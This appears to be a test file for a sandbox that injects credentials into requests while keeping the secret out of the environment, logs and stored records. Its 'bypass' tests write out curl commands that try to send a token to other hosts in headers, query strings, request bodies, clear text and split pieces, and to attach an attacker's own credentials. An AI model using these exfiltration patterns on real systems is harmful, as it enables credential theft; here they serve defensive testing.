/** Credentials that the run uses and never holds, end to end: in the environment, on the wire, in the record. */
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { once } from "node:events";
import type { IncomingMessage, Server as PlainServer, ServerResponse } from "node:http";
import type { Server } from "node:https";
import { readdirSync, readFileSync } from "node:fs";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { after, before, beforeEach, describe, test } from "node:test";
import { makePlace, ofType, runGoverned } from "../support/governed.ts";
import { makeAuthority, serveHttps } from "../support/https-server.ts";

const SECRET = "ghp_realSecretrealSecretrealSecret012345";
const place = makePlace();
const authority = makeAuthority();
let server: Server;
let clear: PlainServer;
let port = 0;
let clearPort = 0;
const seen: { readonly url: string; readonly authorization: string | undefined; readonly body: string }[] = [];

function answer(request: IncomingMessage, response: ServerResponse): void {
  let body = "";
  request.setEncoding("utf8").on("data", (chunk: string) => (body += chunk));
  request.on("end", () => {
    seen.push({ url: request.url ?? "", authorization: request.headers.authorization, body });
    // A server that sends back what it got.
    response.end(request.url === "/echo" ? JSON.stringify(request.headers) : "answered\n");
  });
}

before(async () => {
  ({ server, port } = await serveHttps(authority.identityOf("api.test", "other.test"), answer));
  clear = createServer(answer).listen(0, "127.0.0.1");
  await once(clear, "listening");
  clearPort = (clear.address() as AddressInfo).port;
});
after(() => {
  for (const each of [server, clear]) {
    each.close();
    each.closeAllConnections();
  }
  authority.remove();
  place.remove();
});
beforeEach(() => {
  seen.length = 0;
});

const profile = (source: string, more = ""): string => `extends = "standard"
[network]
allow = ["api.test:${String(port)}", "other.test:${String(port)}", "clear.test:${String(clearPort)}"]
inspect = ["other.test"]
trust = ["${authority.file}"]
[network.hosts]
"api.test" = "127.0.0.1"
"other.test" = "127.0.0.1"
"clear.test" = "127.0.0.1"
[environment]
pass = ["HOST_TOKEN", "SAME_TOKEN"]
[credentials.service]
hosts = ["api.test"]
kind = "bearer"
source = ${source}
variable = "API_TOKEN"
${more}`;
const fromEnvironment = '{ env = "HOST_TOKEN" }';
const env = { HOST_TOKEN: SECRET, SAME_TOKEN: `https://me:${SECRET}@x.test/` };
const api = (path = "/"): string => `https://api.test:${String(port)}${path}`;
const sh = (script: string): string[] => ["sh", "-c", script];
const withToken = (url: string): string[] => sh(`curl -sS -H "Authorization: Bearer $API_TOKEN" ${url}; env`);

/** Everything that was kept of the runs of this place, as text. */
function everythingKept(): string {
  return readdirSync(place.state, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => readFileSync(join(entry.parentPath, entry.name), "latin1"))
    .join("\n");
}

describe("a credential", () => {
  test("is on the wire, and neither in the environment nor anywhere that is kept", async () => {
    const { status, stdout, stderr, events } = await runGoverned(place, {
      argv: withToken(api()),
      profile: profile(fromEnvironment),
      env,
    });
    assert.deepEqual([status, stdout.slice(0, 9)], [0, "answered\n"], stderr);
    assert.equal(seen[0]?.authorization, `Bearer ${SECRET}`);
    const placeholder = /^API_TOKEN=(ghp_\w{36})$/m.exec(stdout)?.[1];
    assert.ok(placeholder !== undefined && placeholder !== SECRET);
    assert.match(stdout, new RegExp(`^HOST_TOKEN=${placeholder}$`, "m"));
    assert.match(stdout, new RegExp(`^SAME_TOKEN=https://me:${placeholder}@`, "m"));
    assert.equal(ofType(events, "request.sent")[0]?.credential, "service");
    for (const text of [stdout, stderr, JSON.stringify(events), everythingKept()]) assert.ok(!text.includes(SECRET));
    // Negative control: what is looked for is found where it is.
    assert.ok(everythingKept().includes("api.test"));
  });

  test("whose placeholder says something to a function that replaces text stands inside as it is", async () => {
    const value = "realSecret$&realSecret$$realSecret";
    const { status, stdout, stderr } = await runGoverned(place, {
      argv: withToken(api()),
      profile: profile(fromEnvironment),
      env: { HOST_TOKEN: value, SAME_TOKEN: `https://me:${value}@x.test/` },
    });
    assert.equal(status, 0, stderr);
    assert.equal(seen[0]?.authorization, `Bearer ${value}`);
    const placeholder = /^API_TOKEN=(\w{10}\$&\w{10}\$\$\w{10})$/m.exec(stdout)?.[1];
    assert.ok(placeholder !== undefined && placeholder !== value, stdout);
    assert.ok(
      stdout.includes(`\nHOST_TOKEN=${placeholder}\n`) && stdout.includes(`=https://me:${placeholder}@x.test/`),
    );
    assert.ok(!stdout.includes("realSecret"));
  });

  const sources: readonly [what: string, source: () => string][] = [
    ["a file of the person's home", () => `{ file = "${place.write("home/secrets/token", `${SECRET}\n`, 0o600)}" }`],
    ["a command", () => `{ command = ["${place.write("home/bin/token", `#!/bin/sh\necho ${SECRET}\n`, 0o755)}"] }`],
    ["the secret service", () => {
      place.write("home/bin/secret-tool", `#!/bin/sh\n[ "$*" = "lookup service github account ada" ] && printf %s ${SECRET}\n`, 0o755);
      return '{ secret-service = { service = "github", account = "ada" } }';
    }],
  ]; // prettier-ignore
  for (const [what, source] of sources) {
    test(`from ${what}`, async () => {
      const { status, stderr, stdout } = await runGoverned(place, {
        argv: withToken(api()),
        profile: profile(source()),
        env: { PATH: `${place.home}/bin:/usr/local/bin:/usr/bin:/bin` },
      });
      assert.equal(status, 0, stderr);
      assert.equal(seen[0]?.authorization, `Bearer ${SECRET}`);
      assert.ok(!stdout.includes(SECRET));
    });
  }

  test("that cannot be had is said before anything runs, without a word of what the command wrote", async () => {
    const failing = place.write("home/bin/failing", `#!/bin/sh\necho ${SECRET} >&2; echo ${SECRET}; exit 3\n`, 0o755);
    const { status, stderr } = await runGoverned(place, {
      argv: ["true"],
      profile: profile(`{ command = ["${failing}"] }`),
    });
    assert.equal(status, 125);
    assert.match(stderr, /credential `service` could not be had: `.*failing` ended with status 3/);
    assert.ok(!stderr.includes(SECRET));
  });

  test("in a file that the run can read, or on the command line, is refused", async () => {
    const file = place.write("home/project/token", SECRET);
    const inside = await runGoverned(place, { argv: ["true"], profile: profile(`{ file = "${file}" }`) });
    assert.match(inside.stderr, /lies in `.*project`, which the run can read/);
    const argument = await runGoverned(place, { argv: ["echo", SECRET], profile: profile(fromEnvironment), env });
    assert.match(argument.stderr, /the command line holds the credential `service`/);
    assert.deepEqual([inside.status, argument.status], [125, 125]);
    assert.ok(!argument.stderr.includes(SECRET));
  });

  test("is added where the client knows nothing of it", async () => {
    const { status, stderr } = await runGoverned(place, {
      argv: ["curl", "-sS", api()],
      profile: profile(fromEnvironment, "always = true\n"),
      env,
    });
    assert.equal(status, 0, stderr);
    assert.equal(seen[0]?.authorization, `Bearer ${SECRET}`);
  });

  test("does not come back: a server that echoes it answers nobody", async () => {
    const { stdout, stderr, events } = await runGoverned(place, {
      argv: withToken(api("/echo")),
      profile: profile(fromEnvironment),
      env,
    });
    assert.equal(seen.length, 1);
    assert.ok(!stdout.includes(SECRET) && !JSON.stringify(events).includes(SECRET));
    assert.deepEqual(
      ofType(events, "credential.misused").map(({ where }) => where),
      ["answer"],
    );
    assert.match(stderr, /alarm: the credential `service` was misused \(answer/);
  });
});

describe("bypass 35: an attacker's own account on a permitted host", () => {
  test("is refused in whatever header, and the server sees nothing", async () => {
    const attempts = [
      "Authorization: Bearer attacker",
      "X-Api-Key: attacker",
      "Cookie: s=attacker",
      "X-Anything: Basic YTpi",
    ];
    const script = attempts
      .map((header) => `curl -sS -o /dev/null -w '%{http_code} ' -H '${header}' ${api()}`)
      .join("; ");
    const { stdout, events } = await runGoverned(place, {
      argv: sh(`${script}; curl -sS -o /dev/null -w '%{http_code} ' '${api("/?access_token=attacker")}'`),
      profile: profile(fromEnvironment),
      env,
    });
    assert.equal(stdout.trim(), "403 403 403 403 403");
    assert.deepEqual(seen, []);
    assert.equal(ofType(events, "request.refused").length, 5);
    assert.deepEqual(ofType(events, "request.refused")[0]?.decision.policies, ["credential:service"]);
  });
});

describe("bypass 39: a secret in pieces, in other places, in other encodings", () => {
  test("there is only a placeholder to send: elsewhere it is an alarm, and refused", async () => {
    const other = `https://other.test:${String(port)}`;
    const script = [
      `curl -sS -o /dev/null -w '%{http_code} ' -H "Authorization: Bearer $API_TOKEN" ${other}/`,
      `curl -sS -o /dev/null -w '%{http_code} ' "${other}/?x=$API_TOKEN"`,
      `curl -sS -o /dev/null -w '%{http_code} ' -u "x:$API_TOKEN" ${other}/`,
      `printf 'x=%s' "$API_TOKEN" > body`,
      `curl -sS -o /dev/null -w '%{http_code} ' --data-binary "$(cat body)" ${other}/`,
      `curl -sS --data "$API_TOKEN" http://clear.test:${String(clearPort)}/`,
    ].join("; ");
    const { stdout, events } = await runGoverned(place, { argv: sh(script), profile: profile(fromEnvironment), env });
    assert.equal(stdout.trim(), "403 403 403 403");
    assert.deepEqual(
      seen.filter(({ url }) => !url.startsWith("/")),
      [],
    );
    assert.ok(!seen.some(({ body, authorization }) => body !== "" || authorization !== undefined));
    assert.deepEqual(
      ofType(events, "credential.misused").map(({ where }) => where),
      ["header authorization", "query", "header authorization", "body", "clear text"],
    );
  });

  test("in pieces it arrives, and is worth nothing to who puts it together", async () => {
    const other = `https://other.test:${String(port)}`;
    const { stdout, stderr } = await runGoverned(place, {
      argv: sh(
        `a=$(printf %s "$API_TOKEN" | cut -c1-20); b=$(printf %s "$API_TOKEN" | cut -c21-); curl -sS -d "$a" ${other}/; curl -sS -d "$b" ${other}/`,
      ),
      profile: profile(fromEnvironment),
      env,
    });
    assert.equal(stdout, "answered\nanswered\n", stderr);
    const whole = seen.map(({ body }) => body).join("");
    assert.equal(whole.length, SECRET.length);
    assert.notEqual(whole, SECRET);
  });
});
